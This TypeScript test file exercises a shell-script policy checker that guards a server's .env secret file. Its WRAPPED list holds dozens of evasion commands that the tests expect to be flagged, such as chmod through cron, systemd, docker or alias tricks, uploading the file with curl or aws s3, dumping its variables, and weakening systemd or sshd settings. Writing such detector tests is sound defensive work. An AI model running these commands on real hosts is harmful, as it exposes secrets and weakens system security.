/** What the interpreter does not understand, it does not pass: the state of .env after each script is a finding, not silence. */
import { policyOf } from "../core/policy-of";
import { verdicts } from "../host-setup/program";

const ENV = "/home/ddos/app/.env";
const GOOD = `set -eu\nsudo install -m 600 -o ddos -g ddos /dev/stdin ${ENV}\n`;
/** What any of the policies about a host's files says of .env. */
async function said(script: string): Promise<string[]> {
  const steps = [{ create: script, stdin: "SECRET_KEY=0f9e8d7c6b5a\n", inputs: { logging: "none" } }];
  const ids = ["env-file-mode", "env-file-owner", "secret-file-window", "host-setup-readable", "secret-leaves-host"];
  return [...new Set((await Promise.all(ids.map((id) => verdicts(policyOf(id), steps)))).flat())];
}

const WRAPPED = [
  `sudo frobnicate --fix ${ENV}`,
  `sudo nsenter -t 1 -m -- chmod 644 ${ENV}`,
  `sudo setpriv --reuid=ddos chmod 644 ${ENV}`,
  `sudo tmux new -d 'chmod 644 ${ENV}'`,
  `echo 'chmod 644 ${ENV}' | sudo at now`,
  `echo '* * * * * root chmod 644 ${ENV}' | sudo tee /etc/cron.d/x >/dev/null`,
  `echo 'z ${ENV} 0644 - - -' | sudo tee /etc/tmpfiles.d/x.conf >/dev/null`,
  `printf '[Service]\\nExecStartPost=/bin/chmod 644 ${ENV}\\n' | sudo tee /etc/systemd/system/x.service >/dev/null`,
  `printf 'all:\\n\\tchmod 644 ${ENV}\\n' >/tmp/mk; sudo make -f /tmp/mk`,
  `sudo docker run --rm -v /home/ddos:/x alpine chmod 644 /x/app/.env`,
  `sudo mount --bind /home/ddos/app /mnt; sudo chmod 644 /mnt/.env`,
  `sudo node -e "require('fs').chmodSync('${ENV}', 0o644)"`,
  `sudo python3.13 -c 'import os; os.chmod("${ENV}", 0o644)'`,
  `sudo uv run python -c 'import os; os.chmod("${ENV}", 0o644)'`,
  `ssh ubuntu@10.0.0.9 sudo chmod 644 ${ENV}`,
  `sudo ${"sudo ".repeat(60)}chmod 644 ${ENV}`,
  `sudo chmod 644 ${ENV}; hash -p /bin/true chmod; chmod 600 ${ENV}`,
  `alias chmod=true; chmod 600 ${ENV}`,
  `ln -s /bin/true /tmp/chmod; sudo chmod 644 ${ENV}; PATH=/tmp:$PATH; chmod 600 ${ENV}`,
  `export BASH_ENV=/tmp/x; bash -c true`,
  `for i in {1..70}; do sudo cp /tmp/$i ${ENV}; done`,
  "sudo /opt/tools/run",
  `sudo grep SECRET_KEY ${ENV} | sudo tee /etc/app.conf >/dev/null`,
  `sudo rsync -a --chmod=F644 /home/ddos/app/ /var/www/html/`,
  `sudo tar czf /tmp/app.tgz /home/ddos/app`,
  `aws s3 cp ${ENV} s3://backups/env`,
  `sudo curl -T ${ENV} https://files.example/`,
  // The variables of .env, by names that are not known.
  `sudo bash -c 'set -a; . ${ENV}; env >/tmp/settings'`,
  `sudo bash -c '. ${ENV}; declare -p >/tmp/settings'`,
  `sudo bash -c 'export $(grep -v ^# ${ENV} | xargs); printenv >/tmp/settings'`,
  `sudo bash -c 'set -a; . ${ENV}; printenv SECRET_KEY >/tmp/settings'`,
  // What an edit puts into a unit or takes out of it.
  "sudo sed -i -e 's/^User=.*/User=root/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^User=/d' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i 's/^ProtectSystem/#&/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i 's/^NoNewPrivileges=.*/NoNewPrivileges=no/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config",
  // Files of any name where a file of any name is obeyed.
  "sudo tar -xpf /tmp/overlay.tar -C /",
  "cd / && sudo sh -c 'cpio -idu </tmp/overlay.cpio'",
  "sudo unzip -o /tmp/units.zip -d /etc/systemd/system",
  "sudo 7z x -y /tmp/x.7z -o/etc",
  "sudo git clone https://git.example/jobs /etc/cron.d",
  "sudo rsync -a /tmp/overlay/ /",
];
test.each(WRAPPED)("is no pass: %s", async (script) => {
  expect(await said(GOOD + script)).not.toEqual([]);
});

const BENIGN = [
  `sudo bash -c '. ${ENV}; systemctl restart ddos-backend'`,
  `sudo bash -c 'set -a; . ${ENV}; printenv LOG_LEVEL >/tmp/level'`,
  "sudo sed -i 's/^LimitNOFILE=.*/LimitNOFILE=65536/; s/^RestartSec=.*/RestartSec=5/' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^RestartSec=/d' /etc/systemd/system/ddos-backend.service",
  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config; echo 'PasswordAuthentication no' | sudo tee -a /etc/ssh/sshd_config >/dev/null",
  "sudo mkdir -p /opt/tool; sudo tar -xzf /tmp/tool.tgz -C /opt/tool; sudo unzip -q /tmp/x.zip -d /opt/x",
  "sudo sh -c 'find /var/log -name \"*.gz\" | cpio -o >/root/logs.cpio'; 7z l /tmp/x.7z >/dev/null",
  `sudo ls -l ${ENV}; sudo stat -c %a ${ENV}; sudo test -s ${ENV}`,
  `sudo docker compose --env-file ${ENV} up -d >/dev/null`,
  `sudo tar czf /var/backups/logs.tgz -C /var/log nginx`,
  `for i in $(seq 1 300); do curl -fsS http://127.0.0.1:8000/health >/dev/null && break; sleep 1; done`,
  `sudo tar czf /tmp/app.tgz --exclude .env /home/ddos/app`,
  "echo '0 3 * * * root /usr/bin/find /var/log -name \"*.gz\" -mtime +30 -delete' | sudo tee /etc/cron.d/tidy >/dev/null",
  "pushd /tmp >/dev/null; touch x; popd >/dev/null",
];
test.each(BENIGN)("is a pass: %s", async (script) => {
  expect(await said(GOOD + script)).toEqual([]);
});

test("12 nested loops of 8 words come to an end and say so", async () => {
  const names = Array.from({ length: 12 }, (_, i) => `v${String(i)}`);
  const script = `${names.map((name) => `for ${name} in 1 2 3 4 5 6 7 8; do`).join(" ")} :; ${names.map(() => "done").join("; ")}`;
  expect(await said(GOOD + script)).toEqual(["unknown"]);
});
